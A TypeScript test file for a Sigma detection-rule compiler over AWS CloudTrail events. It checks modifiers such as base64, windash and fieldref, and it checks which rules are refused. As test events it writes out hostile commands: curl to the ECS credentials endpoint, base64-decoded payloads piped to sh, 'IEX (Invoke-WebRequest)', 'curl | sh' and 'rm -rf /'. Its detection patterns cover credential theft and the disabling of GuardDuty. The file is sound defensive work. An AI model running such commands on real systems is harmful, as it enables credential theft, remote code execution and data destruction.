/**
 * Every Sigma modifier and condition form, with small rules written here: on a corpus of events
 * (expectations by hand-written jq, oracle-cases.ts; the in-repo corpus here, the real one in
 * modifiers.corpus.test.ts) where events exercise the form, and on events built for the case
 * (expectations known by construction) where they do not — base64, base64offset, windash, re|m,
 * re|s, fieldref and the SigmaHQ rules no real event matches.
 */
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { compileRule } from '../../src/sigma/compile.js';
import { parseRuleSource } from '../../src/sigma/parse.js';
import { type Rec } from './corpus.js';
import { compile, oracleCases, predicate, ruleText } from './oracle-cases.js';

// On the in-repo corpus, every form that the real corpus exercises is exercised at least once.
oracleCases((atLeast) => Math.min(atLeast, 1));

function reasonOf(detection: string, extra = ''): string {
  const result = compile(detection, extra);
  if (result.ok) throw new Error('expected the rule to be refused');
  return result.unsupported.reason;
}

/** The base64 text of `text`, as coreutils writes it (the oracle for base64 modifiers). */
function coreutilsBase64(text: string): string {
  return execFileSync('base64', ['-w0'], { input: text, encoding: 'utf8' });
}

describe('modifiers on events built for the case', () => {
  const event = (fields: Rec): Rec => ({
    eventVersion: '1.08',
    eventSource: 'ecs.amazonaws.com',
    eventName: 'RegisterTaskDefinition',
    ...fields,
  });
  const withCommand = (command: string): Rec =>
    event({ requestParameters: { containerDefinitions: [{ name: 'app', command: ['sh', '-c', command] }] } });

  it('base64: the encoded value (coreutils base64 as oracle)', () => {
    const payload = 'curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI';
    const test = predicate(
      `selection:\n    requestParameters.containerDefinitions.command|base64|contains: '${payload}'\ncondition: selection`,
    );
    expect(test(withCommand(`echo ${coreutilsBase64(payload)} | base64 -d | sh`))).toBe(true);
    expect(test(withCommand(`echo ${coreutilsBase64(`x${payload}`)} | base64 -d | sh`))).toBe(false);
    expect(test(withCommand(payload))).toBe(false);
  });

  it('base64offset: found at any of the three offsets inside longer base64 text', () => {
    const payload = '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI';
    const test = predicate(
      `selection:\n    requestParameters.containerDefinitions.command|base64offset|contains: '${payload}'\ncondition: selection`,
    );
    for (const prefix of ['', 'a', 'ab', 'abc', 'curl 169.254.170.2']) {
      expect(
        test(withCommand(coreutilsBase64(`${prefix}${payload} && echo done`))),
        `prefix "${prefix}"`,
      ).toBe(true);
    }
    expect(test(withCommand(coreutilsBase64('curl 169.254.170.2/v2/credentials')))).toBe(false);
  });

  it('base64offset gives the three variants Sigma documents for /bin/bash', () => {
    const result = compile(
      "selection:\n    command|base64offset|contains: '/bin/bash'\ncondition: selection".replace(
        'command',
        'requestParameters.command',
      ),
    );
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.rule.query).toMatchObject({
      kind: 'match',
      cond: { op: 'contains', values: ['L2Jpbi9iYXNo', '9iaW4vYmFza', 'vYmluL2Jhc2'] },
    });
  });

  it('wide|base64offset: UTF-16LE text, as PowerShell -EncodedCommand carries it', () => {
    const test = predicate(
      "selection:\n    requestParameters.containerDefinitions.command|wide|base64offset|contains: 'Invoke-WebRequest'\ncondition: selection",
    );
    const utf16 = execFileSync('iconv', ['-f', 'UTF-8', '-t', 'UTF-16LE'], {
      input: 'IEX (Invoke-WebRequest http://x)',
    });
    expect(test(withCommand(`powershell -enc ${utf16.toString('base64')}`))).toBe(true);
    expect(test(withCommand(`powershell -enc ${coreutilsBase64('IEX (Invoke-WebRequest http://x)')}`))).toBe(
      false,
    );
  });

  it('windash: - and / and the Unicode dashes are all the same option dash', () => {
    const test = predicate(
      "selection:\n    requestParameters.containerDefinitions.command|windash|contains: ' -encodedcommand '\ncondition: selection",
    );
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      expect(test(withCommand(`powershell.exe ${dash}EncodedCommand SQBFAFgA`)), `dash ${dash}`).toBe(true);
    }
    expect(test(withCommand('powershell.exe EncodedCommand SQBFAFgA'))).toBe(false);
    expect(test(withCommand('powershell.exe +EncodedCommand SQBFAFgA'))).toBe(false);
  });

  it('re|m: ^ and $ at line breaks; re|s: . across line breaks', () => {
    const text = (value: string): Rec => event({ requestParameters: { script: value } });
    const multiline = predicate(
      "selection:\n    requestParameters.script|re|m: '^rm -rf /$'\ncondition: selection",
    );
    const plain = predicate(
      "selection:\n    requestParameters.script|re: '^rm -rf /$'\ncondition: selection",
    );
    expect(multiline(text('#!/bin/sh\nrm -rf /\nexit'))).toBe(true);
    expect(plain(text('#!/bin/sh\nrm -rf /\nexit'))).toBe(false);
    const dotall = predicate(
      "selection:\n    requestParameters.script|re|s: 'curl.+sh'\ncondition: selection",
    );
    const dot = predicate("selection:\n    requestParameters.script|re: 'curl.+sh'\ncondition: selection");
    expect(dotall(text('curl http://x |\nsh'))).toBe(true);
    expect(dot(text('curl http://x |\nsh'))).toBe(false);
  });

  it('fieldref, fieldref|endswith, fieldref|cased', () => {
    const record = (arn: string, userName: string): Rec =>
      event({
        eventSource: 'iam.amazonaws.com',
        eventName: 'CreateAccessKey',
        userIdentity: { arn },
        requestParameters: { userName },
      });
    const equal = predicate(
      'selection:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: selection',
    );
    const ownKey = predicate(
      'selection:\n    userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: selection',
    );
    const cased = predicate(
      'selection:\n    userIdentity.arn|fieldref|endswith|cased: requestParameters.userName\ncondition: selection',
    );
    expect(ownKey(record('arn:aws:iam::111122223333:user/Alice', 'alice'))).toBe(true);
    expect(cased(record('arn:aws:iam::111122223333:user/Alice', 'alice'))).toBe(false);
    expect(ownKey(record('arn:aws:iam::111122223333:user/alice', 'bob'))).toBe(false);
    expect(ownKey(event({ userIdentity: { arn: 'arn:aws:iam::1:user/a' } }))).toBe(false);
    expect(equal(event({ userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bob' } }))).toBe(
      true,
    );
    expect(
      equal(event({ userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bobby' } })),
    ).toBe(false);
    expect(equal(event({ userIdentity: {}, requestParameters: {} }))).toBe(false);
  });

  it('escaped wildcards are literal', () => {
    const test = predicate("selection:\n    requestParameters.policyName: 'admin\\*'\ncondition: selection");
    expect(test(event({ requestParameters: { policyName: 'admin*' } }))).toBe(true);
    expect(test(event({ requestParameters: { policyName: 'administrator' } }))).toBe(false);
  });

  it('SigmaHQ rules no real event matches: built events on each side of the rule', () => {
    const imds = predicate(
      `selection:\n    userIdentity.arn|re: '.+:assumed-role/aws:.+'\nfilter_main_generic:\n    - eventSource: 'ssm.amazonaws.com'\n    - eventName: 'RegisterManagedInstance'\n    - sourceIPAddress: 'AWS Internal'\ncondition: selection and not 1 of filter_main_*`,
    );
    const role = (arn: string, extra: Rec = {}): Rec =>
      event({
        eventSource: 'ec2.amazonaws.com',
        eventName: 'DescribeInstances',
        sourceIPAddress: '203.0.113.9',
        userIdentity: { type: 'AssumedRole', arn },
        ...extra,
      });
    expect(imds(role('arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc'))).toBe(true);
    expect(imds(role('arn:aws:sts::111122223333:assumed-role/AWS:ec2-instance/i-0abc'))).toBe(false);
    expect(
      imds(
        role('arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc', {
          sourceIPAddress: 'AWS Internal',
        }),
      ),
    ).toBe(false);
    expect(
      imds(
        role('arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc', {
          eventSource: 'ssm.amazonaws.com',
        }),
      ),
    ).toBe(false);

    const ecs = predicate(
      `selection:\n    eventSource: 'ecs.amazonaws.com'\n    eventName:\n        - 'DescribeTaskDefinition'\n        - 'RegisterTaskDefinition'\n        - 'RunTask'\n    requestParameters.containerDefinitions.command|contains: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'\ncondition: selection`,
    );
    expect(ecs(withCommand('curl 169.254.170.2$aws_container_credentials_relative_uri'))).toBe(true);
    expect(ecs(withCommand('curl 169.254.170.2/v2/credentials'))).toBe(false);

    const guardduty = predicate(
      `selection_event_source:\n    eventSource: 'guardduty.amazonaws.com'\nselection_action_delete:\n    eventName: 'DeleteDetector'\nselection_action_update:\n    eventName: 'UpdateDetector'\n    requestParameters.enable: 'false'\nselection_status_success:\n    errorCode: 'Success'\nselection_status_null:\n    errorCode: null\ncondition: selection_event_source and 1 of selection_action_* and 1 of selection_status_*`,
    );
    const gd = (eventName: string, requestParameters: Rec, extra: Rec = {}): Rec =>
      event({ eventSource: 'guardduty.amazonaws.com', eventName, requestParameters, ...extra });
    expect(guardduty(gd('UpdateDetector', { detectorId: 'd', enable: false }))).toBe(true);
    expect(guardduty(gd('UpdateDetector', { detectorId: 'd', enable: true }))).toBe(false);
    expect(guardduty(gd('DeleteDetector', { detectorId: 'd' }))).toBe(true);
    expect(guardduty(gd('DeleteDetector', { detectorId: 'd' }, { errorCode: 'AccessDenied' }))).toBe(false);

    const templated = predicate(
      `selection:\n    eventSource: iam.amazonaws.com\n    eventName: PutUserPolicy\n    userAgent|contains: 'S3 Browser'\n    requestParameters|contains|all:\n        - '"arn:aws:s3:::<YOUR-BUCKET-NAME>/*"'\n        - '"s3:GetObject"'\n        - '"Allow"'\ncondition: selection`,
    );
    const policy = (resource: string, action: string): Rec =>
      event({
        eventSource: 'iam.amazonaws.com',
        eventName: 'PutUserPolicy',
        userAgent: 'S3 Browser 9.5.5 https://s3browser.com',
        requestParameters: {
          userName: 'u',
          policyName: 'p',
          policyDocument: `{"Statement":[{"Effect":"Allow","Action":"${action}","Resource":"${resource}"}]}`,
        },
      });
    // The policy document is a JSON string inside requestParameters: its quotes are escaped in the JSON text.
    expect(templated(policy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*', 's3:GetObject'))).toBe(false);
    const rawPolicy = (resource: string, action: string): Rec =>
      event({
        eventSource: 'iam.amazonaws.com',
        eventName: 'PutUserPolicy',
        userAgent: 'S3 Browser 9.5.5',
        requestParameters: { Statement: [{ Effect: 'Allow', Action: action, Resource: resource }] },
      });
    expect(templated(rawPolicy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*', 's3:GetObject'))).toBe(true);
    expect(templated(rawPolicy('arn:aws:s3:::<YOUR-BUCKET-NAME>/secret/*', 's3:GetObject'))).toBe(true);
    expect(templated(rawPolicy('arn:aws:s3:::<YOUR-BUCKET-NAME>/*', 's3:PutObject'))).toBe(false);
  });
});

describe('constructs refused per rule, with the reason', () => {
  const cases: [string, string, RegExp, string?][] = [
    ['keyword search (a list of values)', 'keywords:\n    - mimikatz\ncondition: keywords', /keyword search/],
    [
      'keyword search (modifiers without a field)',
      'sel:\n    "|contains": mimikatz\ncondition: sel',
      /keyword search/,
    ],
    [
      'aggregation',
      'sel:\n    eventName: ListBuckets\ncondition: sel | count() by sourceIPAddress > 10',
      /aggregat/,
    ],
    ['near', 'a:\n    eventName: A\nb:\n    eventName: B\ncondition: a | near b', /near/],
    ['timeframe', 'a:\n    eventName: A\ntimeframe: 5m\ncondition: a', /timeframe/],
    ['placeholders', "sel:\n    sourceIPAddress|expand: '%admin_ips%'\ncondition: sel", /placeholder/],
    ['numeric comparison', 'sel:\n    requestParameters.maxCount|gt: 10\ncondition: sel', /numeric/],
    ['"2 of"', 'a:\n    eventName: A\nb:\n    eventName: B\ncondition: 2 of them', /"2 of"/],
    ['an unknown selection', 'a:\n    eventName: A\ncondition: a and b', /"b", which is not a selection/],
    ['a pattern matching nothing', 'a:\n    eventName: A\ncondition: 1 of filter_*', /matches no selection/],
    ['a syntax error', 'a:\n    eventName: A\ncondition: a and (not a', /ends early/],
    ['an unknown modifier', 'a:\n    eventName|sortof: A\ncondition: a', /unknown modifier "sortof"/],
    ['an invalid regex', "a:\n    eventName|re: '(unclosed'\ncondition: a", /not valid/],
    [
      'a regex needing backtracking (lookaround)',
      "a:\n    eventName|re: 'a(?!b)'\ncondition: a",
      /lookaround/,
    ],
    ['an invalid network', "a:\n    sourceIPAddress|cidr: '10.0.0.0/33'\ncondition: a", /not an IP network/],
    [
      'a field CloudTrail does not have',
      'a:\n    src_ip: 10.0.0.1\ncondition: a',
      /"src_ip" is not a CloudTrail field/,
    ],
    ['base64 of a wildcard', "a:\n    requestParameters.x|base64: 'abc*'\ncondition: a", /wildcards/],
    ['an empty list', 'a:\n    eventName: []\ncondition: a', /empty list/],
    [
      'status unsupported',
      'a:\n    eventName: A\ncondition: a',
      /status is "unsupported"/,
      'status: unsupported\n',
    ],
    ['another log source', 'a:\n    eventName: A\ncondition: a', /not AWS CloudTrail/, 'LOGSOURCE'],
  ];
  it.each(cases)('%s', (_name, detection, reason, extra) => {
    if (extra === 'LOGSOURCE') {
      const text = ruleText(detection)
        .replace('product: aws', 'product: windows')
        .replace('service: cloudtrail', 'category: process_creation');
      const [rule] = parseRuleSource({ file: 'win.yml', text });
      const result = compileRule(rule!);
      expect(result.ok).toBe(false);
      if (!result.ok) expect(result.unsupported.reason).toMatch(reason);
      return;
    }
    expect(reasonOf(detection, extra)).toMatch(reason);
  });

  it('correlation and filter documents are refused, the rules beside them still compile', () => {
    const text = `${ruleText('sel:\n    eventName: ConsoleLogin\ncondition: sel')}---\ntitle: many logins\nid: 0f5a4b8e-3b55-4f0c-9d59-6f4b7f7d2a11\ncorrelation:\n    type: event_count\n    rules: [5d2c7c43-7a55-4a36-9f0b-3b0f4c1e2a10]\n    group-by: [sourceIPAddress]\n    timespan: 1h\n    condition:\n        gte: 10\n---\ntitle: exclude admins\nid: 7f1d2d0e-2f4d-4d3a-8f0e-1e2b3c4d5e6f\nlogsource:\n    product: aws\n    service: cloudtrail\nfilter:\n    rules: [5d2c7c43-7a55-4a36-9f0b-3b0f4c1e2a10]\n    selection:\n        userIdentity.userName: admin\n    condition: not selection\n`;
    const results = parseRuleSource({ file: 'multi.yml', text }).map(compileRule);
    expect(results.map((r) => r.ok)).toEqual([true, false, false]);
    expect(results[1]).toMatchObject({
      ok: false,
      unsupported: { reason: expect.stringMatching(/correlation rule/) },
    });
    expect(results[2]).toMatchObject({
      ok: false,
      unsupported: { reason: expect.stringMatching(/filter document/) },
    });
  });
});
